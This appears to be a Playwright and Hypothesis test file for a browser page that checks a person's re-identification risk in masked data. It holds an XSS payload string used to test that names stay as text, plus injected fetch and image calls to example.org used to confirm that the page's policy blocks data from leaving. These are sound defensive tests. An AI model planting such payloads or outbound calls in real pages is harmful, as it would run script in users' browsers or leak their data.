@@ -1,0 +1,412 @@
+"""The subject's page in a real browser: the numbers of verify, nothing that leaves, keyboard, narrow window, print."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pandas as pd
+import polars as pl
+import pyarrow as pa
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+import rankveil as rv
+from rankveil.table import Schema
+
+LEVELS = ("none", "primary", "secondary", "degree")
+EVIL = "</script><img src=x onerror=alert(1)>"
+
+
+def third() -> dict[str, Any]:
+    original, _ = rv.datasets.running_example()
+    return dict(original.slice(2, 1).to_pylist()[0])
+
+
+@pytest.fixture(scope="module", name="running")
+def running_example() -> str:
+    _, masked = rv.datasets.running_example()
+    return rv.subject_page(masked)
+
+
+def fill(page: Any, record: dict[str, Any]) -> None:
+    for name, value in record.items():
+        page.get_by_label(name, exact=True).fill(str(value))
+
+
+def answer(page: Any) -> str:
+    """Ask, wait, and give back the words of the answer."""
+    page.get_by_role("button", name="Check").click()
+    page.locator("#answer").wait_for(state="visible")
+    return str(page.locator("#summary").inner_text())
+
+
+def rows_of(page: Any, body: str) -> list[list[str]]:
+    rows = page.locator(f"#{body} tr").all()
+    return [row.locator("th, td").all_text_contents() for row in rows]
+
+
+def assert_same(got: dict[str, Any], want: dict[str, Any]) -> None:
+    """Numbers of the page are those of verify; a logarithm may differ in its last digit."""
+    assert {**got, "diversity": None} == {**want, "diversity": None}
+    assert got["diversity"].keys() == want["diversity"].keys()
+    for criterion, values in want["diversity"].items():
+        for one, other in zip(got["diversity"][criterion], values, strict=True):  # None where it is too large
+            assert one == other or one == pytest.approx(other, rel=1e-12, abs=1e-12), criterion
+
+
+def test_record_3_of_the_running_example(open_page: Any, shot: Any, running: str) -> None:
+    page = open_page(running).page
+    fill(page, third())
+    said = answer(page)
+    assert "A match like yours is what chance would give." in said
+    assert "nearest to your values is number 10 of 20. It is 4 ranks away" in said
+    assert "in about 81 of 100 cases (probability about 0.8119)" in said
+    assert rows_of(page, "distances") == [
+        ["X1", "100.87", "100.41", "8", "104.82", "4"],
+        ["X2", "902.21", "903.25", "2", "912.77", "1"],
+        ["X3", "5108.54", "5087.9", "16", "4997.61", "4"],
+    ]
+    assert [row[:3] for row in rows_of(page, "diversity")] == [
+        ["X1", "9", "24.7"],
+        ["X2", "3", "155"],
+        ["X3", "9", "20168"],
+    ]
+    assert "approximate" in page.locator("#notes").inner_text()
+    shot(page)
+    _, masked = rv.datasets.running_example()
+    assert_same(page.evaluate("record => rankveil.check(record)", third()), rv.verify(masked, third()).to_dict())
+
+
+def test_nothing_can_leave(open_page: Any, running: str) -> None:
+    opened = open_page(running)
+    fill(opened.page, third())
+    answer(opened.page)
+    kept = "[localStorage.length, sessionStorage.length, document.cookie]"
+    assert opened.page.evaluate(kept) == [0, 0, ""]
+    assert (opened.requests, opened.complaints) == ([opened.page.url], [])
+    # even a script that got in could not send: the policy refuses, and the browser says so in its console
+    tried = opened.page.evaluate(
+        """async () => {
+            const refused = [];
+            addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
+            await fetch("https://example.org/?X1=100").catch(() => {});
+            document.body.append(Object.assign(new Image(), {src: "https://example.org/?X1=100"}));
+            document.body.append(Object.assign(document.createElement("script"), {textContent: "window.ran = 1"}));
+            await new Promise((go) => setTimeout(go, 100));
+            return [refused.sort(), window.ran ?? null];
+        }"""
+    )
+    assert tried == [["connect-src", "img-src", "script-src-elem"], None]
+    opened.complaints.clear()
+    del opened.requests[1:]  # what the policy stopped
+
+
+def test_keyboard_alone(open_page: Any, shot: Any) -> None:
+    rng = np.random.default_rng(5)
+    table = pl.DataFrame({"AGE": rng.integers(20, 80, 40), "SCHOOL": rng.choice(LEVELS, 40), "PAY": rng.random(40)})
+    schema = Schema(levels={"SCHOOL": LEVELS})
+    page = open_page(rv.subject_page(table, schema=schema)).page
+    keys = page.keyboard
+    keys.press("Tab")
+    keys.type("44")
+    keys.press("Tab")
+    keys.type("deg")  # a list of choices is searched by typing
+    keys.press("Tab")
+    keys.type("0,25")
+    shot(page, "focus")
+    keys.press("Enter")
+    page.locator("#answer").wait_for(state="visible")
+    assert page.evaluate("document.activeElement.id") == "verdict"
+    assert [row[:2] for row in rows_of(page, "distances")] == [["AGE", "44"], ["SCHOOL", "degree"], ["PAY", "0.25"]]
+    record = {"AGE": 44, "SCHOOL": "degree", "PAY": 0.25}
+    assert f"is number {rv.verify(table, record, schema=schema).record} of 40" in page.locator("#words").inner_text()
+    shot(page)
+    keys.press("Shift+Tab")
+    assert page.evaluate("document.activeElement.textContent") == "Clear"
+    keys.press("Space")
+    assert page.locator("#answer").is_hidden()
+    assert page.evaluate("document.activeElement.id") == "value-0"
+    assert page.get_by_label("AGE").input_value() == ""
+
+
+def test_every_field_has_its_label(open_page: Any, running: str) -> None:
+    page = open_page(running).page
+    page.locator("#ways summary").click()
+    page.get_by_label("Compare me with").select_option("record")
+    unnamed = """() => [...document.querySelectorAll("input, select, button")].filter(
+        (one) => !(one.labels?.length || one.textContent.trim())).length"""
+    assert page.evaluate(unnamed) == 0
+    assert page.get_by_label("X1").get_attribute("aria-describedby") == "value-0-error value-0-hint"
+    assert "87.83 to 123.37" in page.locator("#value-0-hint").inner_text()
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_a_narrow_window(open_page: Any, shot: Any, scheme: str) -> None:
+    rng = np.random.default_rng(3)
+    names = ["household_income_before_taxes_and_transfers_2019", "AGE", "Savings of the whole household, in euro"]
+    table = pd.DataFrame({name: rng.normal(1e6, 3e5, 60) for name in names})
+    page = open_page(rv.subject_page(table), width=400, height=800, color_scheme=scheme).page
+    fill(page, {name: repr(float(table[name][7])) for name in names})
+    said = answer(page)
+    assert "A match like yours is NOT what chance would give." in said
+    assert "is number 8 of 60. It is 0 ranks away" in said
+    assert "whoever knows your values may find your record" in said
+    page.locator("details").last.locator("summary").click()
+    wide = """() => [...document.querySelectorAll("main *")].filter(
+        (one) => !one.closest("thead") && one.getBoundingClientRect().right > 400).map((one) => one.outerHTML)"""
+    assert page.evaluate(wide) == []
+    assert page.evaluate("document.documentElement.scrollWidth") == 400
+    shot(page)
+
+
+def test_print(open_page: Any, shot: Any, running: str, tmp_path: Path) -> None:
+    page = open_page(running).page
+    fill(page, third())
+    answer(page)
+    page.emulate_media(media="print")
+    assert page.get_by_role("button", name="Check").is_hidden()
+    assert page.locator("#distances").is_visible()
+    shot(page)
+    page.pdf(path=tmp_path / "page.pdf", prefer_css_page_size=True)
+    assert (tmp_path / "page.pdf").read_bytes().startswith(b"%PDF")
+
+
+@pytest.mark.parametrize(
+    ("text", "problem"),
+    [
+        ("about 100", "not a number"),
+        ("--5", "not a number"),
+        ("1.2.3", "between thousands"),
+        ("1,234.5", "between thousands"),
+        ("1 234", "between thousands"),
+        ("31,000", "Does this mean 31000 or 31.000?"),
+        ("1e999", "too large"),
+        ("Infinity", "not a number"),
+    ],
+)
+def test_wrong_input_is_told_beside_its_field(open_page: Any, running: str, text: str, problem: str) -> None:
+    page = open_page(running).page
+    fill(page, {"X1": "100", "X2": text})
+    page.keyboard.press("Enter")
+    field = page.get_by_label("X2")
+    assert problem in page.locator("#value-1-error").inner_text()
+    assert field.get_attribute("aria-invalid") == "true"
+    assert page.evaluate("document.activeElement.id") == "value-1"
+    assert page.locator("#value-0-error").is_hidden()
+    assert page.locator("#answer").is_hidden()
+    field.fill("900")
+    answer(page)
+    assert field.get_attribute("aria-invalid") is None
+
+
+def test_other_ways_to_find_the_record(open_page: Any, shot: Any, running: str) -> None:
+    page = open_page(running).page
+    page.get_by_role("button", name="Check").click()
+    assert page.locator("#value-0-error").inner_text() == "Fill in at least one value."
+    fill(page, third())
+    page.locator("#ways summary").click()
+    page.get_by_label("Compare me with").select_option("record")
+    page.get_by_label("Number of the released record").fill("21")
+    page.locator("#ways summary").click()  # closed again: it opens to show what is wrong
+    page.get_by_role("button", name="Check").click()
+    assert page.locator("#record-error").inner_text() == "Give the number of a released record, from 1 to 20."
+    shot(page)
+    page.get_by_label("Number of the released record").fill("3")
+    assert "You chose the released record 3 of 20. It is 9 ranks away" in answer(page)
+    assert [row[5] for row in rows_of(page, "distances")] == ["5", "1", "9"]
+    _, masked = rv.datasets.running_example()
+    for f in ("euclidean", "minimax", "3"):
+        got = page.evaluate("([record, f]) => rankveil.check(record, {f})", [third(), f])
+        assert_same(got, rv.verify(masked, third(), f=f).to_dict())
+
+
+@pytest.mark.parametrize("written", ["100.87", "100,87", "+100,87", " 100.87 ", "1.0087e2"])
+def test_a_decimal_comma(open_page: Any, running: str, written: str) -> None:
+    page = open_page(running).page
+    fill(page, {"X1": written})
+    assert "With one value alone" in answer(page)
+    assert rows_of(page, "distances")[0][1:3] == ["100.87", "100.41"]
+
+
+def test_the_tables_own_decimal_comma_decides(open_page: Any) -> None:
+    table = pl.DataFrame({"A": ["1,5", "31,0", "40,25"], "B": ["-1,5", "2,0", "7,5"]})
+    page = open_page(rv.subject_page(table, decimal=",")).page
+    fill(page, {"A": "31,000", "B": "\u22122"})
+    answer(page)
+    assert [row[1:3] for row in rows_of(page, "distances")] == [["31", "31"], ["-2", "-1.5"]]
+    fill(page, {"A": "31.000"})
+    page.keyboard.press("Enter")
+    assert "Does this mean 31000 or 31,000?" in page.locator("#value-0-error").inner_text()
+
+
+def test_no_complete_record(open_page: Any) -> None:
+    page = open_page(rv.subject_page(pa.table({"A": [1.0, None], "B": [None, 2.0]}))).page
+    fill(page, {"A": "1", "B": "2"})
+    page.keyboard.press("Enter")
+    page.get_by_text("no released record has all the columns that were given").wait_for()
+    assert page.locator("#answer").is_hidden()
+    fill(page, {"B": ""})
+    answer(page)
+    assert "1 released records have missing values" in page.locator("#notes").inner_text()
+
+
+def test_names_stay_text(open_page: Any, shot: Any) -> None:
+    table = pl.DataFrame({EVIL: [1, 2, 3], "__proto__": [3, 1, 2], "L": ["a", EVIL, "a"]})
+    schema = Schema(levels={"L": ("a", EVIL)})
+    page = open_page(rv.subject_page(table, schema=schema, title=EVIL)).page
+    fill(page, {EVIL: "2", "__proto__": "1"})
+    page.get_by_label("L", exact=True).select_option(EVIL)
+    answer(page)
+    assert [row[:3] for row in rows_of(page, "distances")] == [
+        [EVIL, "2", "2"],
+        ["__proto__", "1", "1"],
+        ["L", EVIL, EVIL],
+    ]
+    assert page.locator("img").count() == 0
+    shot(page)
+
+
+class Shown:
+    """One page in one window, for many questions."""
+
+    def __init__(self, chromium: Any, folder: Path) -> None:
+        self.page = chromium.new_page()
+        self.path = folder / "page.html"
+
+    def open(self, html: str) -> None:
+        self.path.write_text(html, encoding="utf-8")
+        self.page.goto(self.path.as_uri())
+
+    def check(self, record: dict[str, Any], f: str) -> dict[str, Any]:
+        return dict(self.page.evaluate("([record, f]) => rankveil.check(record, {f})", [record, f]))
+
+
+@pytest.fixture(scope="module")
+def shown(chromium: Any, tmp_path_factory: pytest.TempPathFactory) -> Shown:
+    return Shown(chromium, tmp_path_factory.mktemp("shown"))
+
+
+VALUES = st.sampled_from([None, 0.0, 1.0, 2.0, 2.5, 9.0, 1e9, 1e9 + 1e-6, -1e300, 1.1, 1.3, 5e-324])
+MINE = st.one_of(st.sampled_from([0.0, 1.2, 1.5, 2.0, 5.5, 1e9, -1e300]), st.floats(-10, 20, width=32))
+
+ONE: dict[str, Any] = {"asked": 1, "f": "minimax", "permutation": True}
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    columns=st.integers(1, 12).flatmap(
+        lambda n: st.lists(st.lists(VALUES, min_size=n, max_size=n), min_size=1, max_size=4)
+    ),
+    mine=st.tuples(MINE, MINE, MINE, MINE),
+    asked=st.integers(1, 15),
+    f=st.sampled_from(["minimax", "euclidean"]),
+    permutation=st.booleans(),
+)
+# equally close as people count, though not in binary; found exactly, though the next value is a rounding away
+@example(columns=[[0.3, 0.5]], mine=(0.4, 0, 0, 0), **ONE)
+@example(columns=[[0.1, float(np.nextafter(0.1, 1))]], mine=(float(np.nextafter(0.1, 1)), 0, 0, 0), **ONE)
+@example(columns=[[2.0**52, 2.0**52 + 2]], mine=(2.0**52 + 1, 0, 0, 0), **ONE)
+@example(columns=[[2.0**51, 2.0**51 + 3]], mine=(2.0**51 + 2, 0, 0, 0), **ONE)
+@example(columns=[[1.7e308, -1.7e308, 5e-324]], mine=(1e308, 0, 0, 0), **ONE)
+@example(columns=[[5e-324, 1e-323, 1.5e-323]], mine=(1e-323, 0, 0, 0), **ONE)
+def test_numbers_are_those_of_verify_for_any_small_table(
+    shown: Shown, columns: list[list[float | None]], mine: tuple[float, ...], asked: int, f: str, permutation: bool
+) -> None:
+    present = {f"C{j}": values for j, values in enumerate(columns) if any(value is not None for value in values)}
+    record = {name: mine[j] for j, name in enumerate(present) if asked >> j & 1}
+    table = pa.table({name: pa.array(values, pa.float64()) for name, values in present.items()})
+    if not record or not any(all(row[name] is not None for name in record) for row in table.to_pylist()):
+        return
+    shown.open(rv.subject_page(table, permutation=permutation))
+    assert_same(shown.check(record, f), rv.verify(table, record, f=f, permutation=permutation).to_dict())
+
+
+def survey() -> tuple[pl.DataFrame, Schema]:
+    """150 records of every kind of column: with four columns chance is sampled, with two all combinations are tried."""
+    rng = np.random.default_rng(11)
+    age = rng.integers(18, 90, 150)
+    table = pl.DataFrame(
+        {
+            "AGE": [None if i % 29 == 3 else int(value) for i, value in enumerate(age)],
+            "PAY": np.round(age * 100 + rng.normal(0, 900, 150), 2),
+            "SCHOOL": rng.choice(LEVELS, 150),
+            "RATE": rng.random(150),
+        }
+    )
+    return table, Schema(levels={"SCHOOL": LEVELS})
+
+
+@pytest.fixture(scope="module")
+def surveyed(chromium: Any, tmp_path_factory: pytest.TempPathFactory) -> Shown:
+    table, schema = survey()
+    page = Shown(chromium, tmp_path_factory.mktemp("surveyed"))
+    page.open(rv.subject_page(table, schema=schema))
+    return page
+
+
+@settings(max_examples=40, deadline=None)
+@given(
+    record=st.fixed_dictionaries(
+        {},
+        optional={
+            "AGE": st.integers(0, 120),
+            "PAY": st.floats(-1e4, 2e4),
+            "SCHOOL": st.sampled_from(LEVELS),
+            "RATE": st.floats(0, 1),
+        },
+    ),
+    f=st.sampled_from(["minimax", "euclidean", "7"]),
+)
+def test_numbers_are_those_of_verify_for_any_columns_given(surveyed: Shown, record: dict[str, Any], f: str) -> None:
+    table, schema = survey()
+    values = {name: record[name] for name in table.columns if name in record}  # in the order of the page
+    if values:
+        assert_same(surveyed.check(values, f), rv.verify(table, values, f=f, schema=schema).to_dict())
+
+
+def test_a_hundred_thousand_records(open_page: Any, shot: Any) -> None:
+    rng = np.random.default_rng(2)
+    base = rng.normal(size=100_000)
+    table = pd.DataFrame({name: np.round(base + rng.normal(size=base.size), 4) for name in "ABCDE"})
+    record = {name: 0.25 * place for place, name in enumerate("ABCDE")}
+    page = open_page(rv.subject_page(table)).page
+    fill(page, record)
+    # a timer runs on while the page works, and the progress moves
+    page.evaluate(
+        """() => {
+            window.ticks = 0;
+            setInterval(() => { if (!document.getElementById("progress").hidden) window.ticks++; }, 0);
+            window.seen = new Set();
+            new MutationObserver(() => window.seen.add(document.getElementById("progress").value))
+                .observe(document.getElementById("progress"), {attributes: true});
+        }"""
+    )
+    assert "of 100000" in answer(page)
+    assert page.evaluate("window.ticks") >= 5
+    assert page.evaluate("[...window.seen].filter((share) => share > 0 && share < 1).length") > 0
+    assert "a seeded sample of 10000 random records" in page.locator("#notes").inner_text()
+    shot(page)
+    assert_same(page.evaluate("record => rankveil.check(record)", record), rv.verify(table, record).to_dict())
+
+
+def test_a_new_question_replaces_the_one_at_work(open_page: Any) -> None:
+    rng = np.random.default_rng(4)
+    table = pd.DataFrame({name: rng.normal(size=30_000) for name in "ABC"})
+    page = open_page(rv.subject_page(table)).page
+    fill(page, {"A": "1", "B": "1", "C": "1"})
+    page.evaluate(
+        """() => {
+            document.getElementById("form").requestSubmit();
+            document.getElementById("value-0").value = "-2";
+            document.getElementById("form").requestSubmit();
+        }"""
+    )
+    page.locator("#answer").wait_for(state="visible")
+    assert rows_of(page, "distances")[0][1] == "-2"
+    page.evaluate("() => { document.getElementById('form').requestSubmit(); document.getElementById('form').reset(); }")
+    assert page.locator("#answer").is_hidden()
+    assert page.locator("#status").inner_text() == ""
+    assert page.locator("#progress").is_hidden()
